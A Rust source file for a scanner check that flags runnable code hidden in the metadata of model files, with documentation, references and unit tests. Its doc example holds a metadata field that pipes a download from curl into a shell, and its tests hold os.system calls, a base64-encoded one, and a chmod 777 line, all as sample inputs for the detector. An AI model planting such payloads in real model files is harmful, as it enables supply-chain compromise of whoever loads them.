//! Text beside the weights that is code.

use palisade_base::{Check, Confidence, Finding, Severity};
use palisade_text::{Detector, RunnableCode};

use crate::Input;

palisade_base::meta! {
    /// ## What it does
    ///
    /// Looks into the text that model files carry beside their weights (metadata of safetensors, GGUF, Core ML, ONNX and
    /// boosted trees, attributes of graphs, strings of formats that have no other text) for code that runs something: calls
    /// that run commands or evaluate text, command lines, scripts, and any of these encoded. See `palisade explain
    /// runnable-code` for what counts.
    ///
    /// ## Why it matters
    ///
    /// No loader should interpret such text, and many tools do: they render it in pages, format it into commands, evaluate
    /// "custom" fields, hand it to a template engine. Honest metadata has no use for a command line.
    ///
    /// ## Example
    ///
    /// ```json
    /// {"__metadata__": {"postprocess": "import os; os.system('curl example.com/x | sh')"}}
    /// ```
    ///
    /// ## What to do
    ///
    /// Do not use the file, and do not show its metadata in anything that renders or evaluates it. Ask its author what the
    /// text is for; weights do not need it.
    ///
    /// ## Limits
    ///
    /// Command lines that merely train or convert a model are not reported. Code that is put together from pieces is missed.
    ///
    /// ## References
    ///
    /// - CWE-94, Improper Control of Generation of Code
    /// - CWE-79, Improper Neutralization of Input During Web Page Generation
    /// - MITRE ATLAS AML.T0010.003, AI Supply Chain Compromise: Model
    static META: Check = {
        name: "metadata-payload",
        summary: "text that a model file carries is code that runs something",
        severity: High,
        components: [Model],
        threats: [SupplyChain],
        stages: [Model, Deployment],
        since: "0.1.0",
    }
}

pub(super) struct MetadataPayload;

impl<'a> Check<Input<'a>> for MetadataPayload {
    fn meta(&self) -> &'static palisade_base::Meta {
        &META
    }

    fn examines(&self, input: &Input<'a>) -> bool {
        matches!(input, Input::Metadata(_))
    }

    fn run(&self, input: &Input<'a>, report: &mut dyn FnMut(Finding)) {
        let Input::Metadata(metadata) = input else { return };
        // One text is one finding: the surest hit says it.
        let hits = RunnableCode.find(metadata.text);
        let Some(worst) = hits.iter().max_by_key(|hit| hit.confidence) else { return };
        let severity = match worst.confidence {
            Confidence::High => Severity::High,
            Confidence::Medium => Severity::Medium,
            Confidence::Low => return,
        };
        let what = match worst.kind {
            "command-line" => "a command line",
            "script" => "a script",
            "encoded-code" => "code in an encoding",
            _ => "a call that runs code",
        };
        let filed = if metadata.key.is_empty() { String::new() } else { format!(" under `{}`", metadata.key) };
        let message = format!("its text{filed} holds {what}");
        let finding = Finding::builder(&META, metadata.evidence(what), message).severity(severity);
        report(finding.advice("weights need no such text; ask the author what it is for").build());
    }
}

#[cfg(test)]
mod tests {
    use palisade_base::Artifact;

    use super::*;
    use crate::input::model::Metadata;

    fn severity(text: &str) -> Option<Severity> {
        let artifact = Artifact::file("m.safetensors");
        let key = "description".to_owned();
        let metadata = Metadata { artifact: &artifact, bytes: text.as_bytes(), range: 0..text.len(), key, text };
        let mut found = Vec::new();
        MetadataPayload.run(&Input::Metadata(metadata), &mut |finding| found.push(finding.severity));
        assert!(found.len() < 2);
        found.pop()
    }

    #[test]
    fn code_is_found_and_descriptions_are_not() {
        assert_eq!(severity("run: python -c 'import os; os.system(\"id\")'"), Some(Severity::High));
        assert_eq!(severity("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk="), Some(Severity::High));
        assert_eq!(severity("cleanup: chmod 777 /tmp/x"), Some(Severity::Medium));
        assert_eq!(severity("A classifier of executive summaries; evaluated with eval.py on os-level metrics."), None);
    }
}
